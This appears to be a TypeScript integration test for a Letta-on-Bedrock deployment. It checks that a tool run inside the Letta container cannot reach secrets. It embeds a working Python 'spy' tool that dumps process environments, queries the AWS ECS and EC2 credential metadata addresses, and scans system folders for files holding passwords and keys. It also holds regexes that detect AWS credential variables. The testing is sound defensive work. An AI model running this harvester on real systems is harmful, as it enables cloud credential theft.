import { Stack } from 'aws-cdk-lib';
import { BedrockGuardrail, BedrockModel } from '../../lib';
import { arn } from '../lab/account';
import { Deployed } from './deployed';
import { converseSuite } from './suites/converse';
import { guardrailSuite } from './suites/guardrail';
import { callWithCode } from './suites/open-routes';
import { secretsSuite } from './suites/secrets';

/** What a caller's tool might try to find its way out of the container. */
const spy = `
def spy() -> str:
    """Looks for credentials.

    Returns:
        str: all it found
    """
    import glob, json, os, urllib.request
    found = {"environ": dict(os.environ), "processes": {}, "answers": {}, "files": {}}
    for name in glob.glob("/proc/[0-9]*/environ"):
        try:
            found["processes"][name] = open(name, "rb").read().decode("utf8", "replace")
        except OSError as error:
            found["processes"][name] = "error " + str(error)
    opener = urllib.request.build_opener(urllib.request.ProxyHandler({}))
    for url in (
        "http://169.254.170.2/",
        "http://169.254.170.2/v2/credentials/",
        "http://169.254.170.2/v2/credentials/00000000-0000-0000-0000-000000000000",
        "http://169.254.170.2/v4/",
        "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
        "https://api.letta.com/",
    ):
        try:
            found["answers"][url] = opener.open(url, timeout=3).read().decode("utf8", "replace")
        except Exception as error:
            found["answers"][url] = "error " + str(error)
    for folder in ("/run", "/run/gateway", "/opt", "/var/lib/letta", "/tmp", "/root", "/home", "/etc"):
        for base, _, names in os.walk(folder):
            for name in names:
                path = os.path.join(base, name)
                if path.startswith("/opt/letta/venv"):
                    continue
                try:
                    found["files"][path] = open(path, errors="replace").read(100000)
                except OSError as error:
                    found["files"][path] = "error " + str(error)
    # Too long a result is cut; files that hold nothing of interest need not be told.
    marks = ("ASIA", "Secret", "SECRET", "PASSWORD", "X-Amz-", "Credential")
    found["files"] = {path: text for path, text in found["files"].items() if any(mark in text for mark in marks)}
    return json.dumps(found)
`;

interface Loot {
  readonly environ: Record<string, string>;
  readonly processes: Record<string, string>;
  readonly answers: Record<string, string>;
  readonly files: Record<string, string>;
}

const [guardrailArn, guardrailVersion] = [arn('bedrock', 'guardrail/abc123'), '7'];
const guardrail = BedrockGuardrail.fromGuardrailAttributes(new Stack(), 'Guardrail', {
  guardrailArn,
  guardrailVersion,
});

describe('LettaBedrockStack with a guardrail, and tools opened in the Letta container', () => {
  // Keys that live just over a minute, which the gateway takes as near their end: it must renew them all the time.
  const deployed = new Deployed({
    stack: {
      http: true,
      unsafeToolsInLettaContainer: true,
      guardrail,
      models: [BedrockModel.US_CLAUDE_SONNET_4_5, BedrockModel.US_NOVA_PRO, BedrockModel.US_LLAMA_4_SCOUT],
    },
    keyLifetime: 65,
  });
  let loot: Loot;

  describe('a tool that looks for credentials', () => {
    test('runs, as its owner asked for', async () => {
      const answer = await deployed.request('POST', '/v1/tools/run', { source_code: spy, args: {}, name: 'spy' });
      expect(answer.status).toBe(200);
      const { tool_return, status } = (await answer.json()) as { tool_return: string; status: string };
      expect({ status, start: tool_return.slice(0, 2) }).toEqual({ status: 'success', start: '{"' });
      loot = JSON.parse(tool_return) as Loot;
      // It really saw Letta's environment and processes.
      expect(loot.environ.LETTA_PG_URI).toContain('letta_runtime@127.0.0.1');
      expect(Object.values(loot.processes).join()).toContain('LETTA_PG_URI');
    }, 90_000);

    test('finds no secret of the deployment anywhere', () => {
      const { services, password } = deployed.lab;
      const secrets = [password, services.master.password, ...services.issuer.secrets()];
      expect(secrets.length).toBeGreaterThan(10);
      const text = JSON.stringify(loot);
      const found = secrets
        .flatMap((secret) => [secret, encodeURIComponent(secret)])
        .filter((one) => text.includes(one));
      expect(found).toEqual([]);
    });

    test('finds placeholders for AWS keys, and no way to the credential endpoint', () => {
      expect(loot.environ.AWS_SECRET_ACCESS_KEY).toBe('the-gateway-signs');
      const text = JSON.stringify([loot.environ, loot.processes]);
      expect(text).not.toMatch(/AWS_CONTAINER_CREDENTIALS|AWS_SESSION_TOKEN|ECS_CONTAINER_METADATA|ECS_AGENT_URI|ASIA/);
    });

    test('gets no credential from the credential address, and no answer from outside', () => {
      for (const [url, answer] of Object.entries(loot.answers)) {
        expect(`${url} ${answer}`).toMatch(/ error (HTTP Error 404|<urlopen error|timed out)/);
      }
      expect(deployed.lab.services.credentials.requests.filter(({ status }) => status === 404).length).toBeGreaterThan(
        2,
      );
    });

    test('can be called by an agent', async () => {
      const client = deployed.client();
      const { id: tool } = await client.tools.create({ source_code: spy });
      const { id } = await client.agents.create({ tool_ids: [tool] });
      const { messages } = await deployed.messages(id, 'call tool spy with {}');
      const answer = messages.find(({ message_type }) => message_type === 'tool_return_message');
      expect(answer).toMatchObject({ status: 'success' });
    }, 90_000);
  });

  test('a tool of Letta’s own runs in its container, with whatever code the model writes', async () => {
    expect(await callWithCode(deployed)).toContain('code-ran');
  }, 90_000);

  guardrailSuite(deployed, `${guardrailArn}:${guardrailVersion}`);

  converseSuite(deployed, `${guardrailArn}:${guardrailVersion}`);

  describe('the gateway', () => {
    test('renews the keys of its role before they expire', () => {
      const { credentials, record } = deployed.lab.services;
      expect(credentials.requests.filter(({ status }) => status === 200).length).toBeGreaterThan(2);
      expect(record.refused).toEqual([]);
    });
  });

  secretsSuite(deployed);
});
